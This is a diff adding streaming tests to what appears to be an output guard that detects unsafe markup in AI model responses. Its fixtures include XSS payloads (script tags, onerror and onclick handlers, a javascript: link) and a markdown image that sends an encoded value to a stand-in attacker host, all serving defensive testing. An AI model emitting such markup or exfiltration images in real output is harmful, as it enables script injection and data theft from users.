@@ -6,7 +6,7 @@ import { findPii } from "./pii.js";
 import { findSecrets } from "./secrets.js";
 import { StreamScanner } from "./stream.js";
 import { findUnsafeOutput } from "./output.js";
-import { streamHoldBack } from "./pipeline.js";
+import { DEFAULT_GUARD_POLICY, Guard, streamHoldBack } from "./pipeline.js";
 import { findMarkedSecrets } from "./redact.js";
 
 const scan = (t: string): Finding[] => dedupe([...findSecrets(t), ...findPii(t)]);
@@ -156,6 +156,86 @@ describe("streaming with the guard's adaptive hold-back", () => {
     assert.ok(before >= prose.length - 400, `${before} of ${prose.length} released before the end`);
     // A link near the end holds back from its "[" until it is complete or out of reach.
     assert.ok(streamHoldBack(`${prose}see [the docs](https://docs.exa`) > "[the docs](https://docs.exa".length);
+  });
+});
+
+describe("markup inside markdown code, streamed", () => {
+  // Unsafe output only flagged, so the stream runs to its end and its findings can be compared.
+  const guard = new Guard({
+    output: { ...DEFAULT_GUARD_POLICY.output, unsafeOutput: "flag", injection: "off", secrets: "off", pii: "off" },
+  });
+  const CODE_PIECES = [
+    "```html\n",
+    "```\n",
+    "~~~\n",
+    "   ````js\n",
+    "`",
+    "``",
+    "\n",
+    "\n\n",
+    "Here is how: ",
+    "<script>run()</script> ",
+    '<button onclick="go()">Go</button> ',
+    "`<img src=x onerror=alert(1)>` ",
+    "![p](https://evil.example.org/p.png?d=Zq8vN2rT5wX7pL4m) ",
+    '<a href="javascript:alert(1)">x</a> ',
+    "prose that runs on for a while so that a backtick pair can fall out of reach of each other. ".repeat(2),
+  ];
+  const key = (f: Finding) => `${f.type}@${f.start}-${f.end}`;
+
+  it("reports the same findings as a whole-text scan for any chunking, fences opened long before included (property)", () => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.constantFrom(...CODE_PIECES), { minLength: 1, maxLength: 40 }),
+        fc.array(fc.integer({ min: 1, max: 61 }), { minLength: 1, maxLength: 30 }),
+        (pieces, sizes) => {
+          const text = pieces.join("");
+          const whole = guard.scan(text, { direction: "output" }).findings.filter((f) => f.kind === "unsafe_output");
+          const stream = guard.stream({ direction: "output" });
+          const found: Finding[] = [];
+          let released = "";
+          for (let at = 0, i = 0; at < text.length; i++) {
+            const size = sizes[i % sizes.length] as number;
+            const r = stream.push(text.slice(at, at + size));
+            released += r.text;
+            found.push(...r.findings);
+            at += size;
+          }
+          const last = stream.end();
+          released += last.text;
+          found.push(...last.findings);
+          assert.equal(released, text);
+          assert.deepEqual(
+            found
+              .filter((f) => f.kind === "unsafe_output")
+              .map(key)
+              .sort(),
+            whole.map(key).sort(),
+          );
+        },
+      ),
+      { numRuns: 300 },
+    );
+  });
+
+  it("a fence opened thousands of characters earlier still makes markup text; outside it, markup blocks", () => {
+    const strict = new Guard();
+    const answer = `\`\`\`html\n${"<p>line</p>\n".repeat(400)}<button onclick="go()">Go</button>\n\`\`\`\nDone.`;
+    const stream = strict.stream({ direction: "output" });
+    let out = "";
+    for (let i = 0; i < answer.length; i += 7) {
+      const r = stream.push(answer.slice(i, i + 7));
+      assert.equal(r.blocked, false);
+      out += r.text;
+    }
+    out += stream.end().text;
+    assert.equal(out, answer);
+    const after = strict.stream({ direction: "output" });
+    const closed = `\`\`\`\ncode\n\`\`\`\n<button onclick="go()">Go</button>`;
+    let blocked = false;
+    for (let i = 0; i < closed.length; i += 5) blocked ||= after.push(closed.slice(i, i + 5)).blocked;
+    blocked ||= after.end().blocked;
+    assert.equal(blocked, true, "after the closing fence markup is active again");
   });
 });
 
